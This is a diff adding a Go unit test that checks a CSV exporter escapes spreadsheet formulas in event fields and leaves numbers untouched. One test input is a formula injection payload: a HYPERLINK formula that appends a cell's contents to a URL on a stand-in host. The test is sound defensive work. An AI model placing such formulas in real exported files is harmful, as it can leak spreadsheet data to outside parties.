@@ -138,3 +138,39 @@ func TestWriteRefusesUnknownActorBeforeWriting(t *testing.T) {
 		}
 	}
 }
+
+// TestCSVGuardsFormulas checks that free text that a spreadsheet would run
+// as a formula is written as text, and that numbers are not touched.
+func TestCSVGuardsFormulas(t *testing.T) {
+	ctx := context.Background()
+	store, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "formulas.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer store.Close()
+	intensity := -7.0
+	b := &db.Batch{Events: []db.Event{{Key: "e1", Type: db.EventProtest, Title: `=HYPERLINK("http://x.example/?"&A1,"click")`,
+		Summary: "+1 more", OccurredAt: db.Date{At: time.Date(2024, 1, 2, 0, 0, 0, 0, time.UTC), Precision: db.PrecisionDay},
+		Location: db.Location{Place: "@SUM(1+1)"}, Intensity: &intensity, Tags: []string{"-x", "y"}}}}
+	if _, err := store.Apply(ctx, b, nil); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := export.Write(ctx, store, export.CSV, db.TimelineFilter{}, &buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]string{}
+	for i, name := range rows[0] {
+		col[name] = rows[1][i]
+	}
+	for name, want := range map[string]string{"title": `'=HYPERLINK("http://x.example/?"&A1,"click")`, "summary": "'+1 more",
+		"place": "'@SUM(1+1)", "tags": "'-x;y", "intensity": "-7", "key": "e1"} {
+		if col[name] != want {
+			t.Errorf("%s = %q, want %q", name, col[name], want)
+		}
+	}
+}
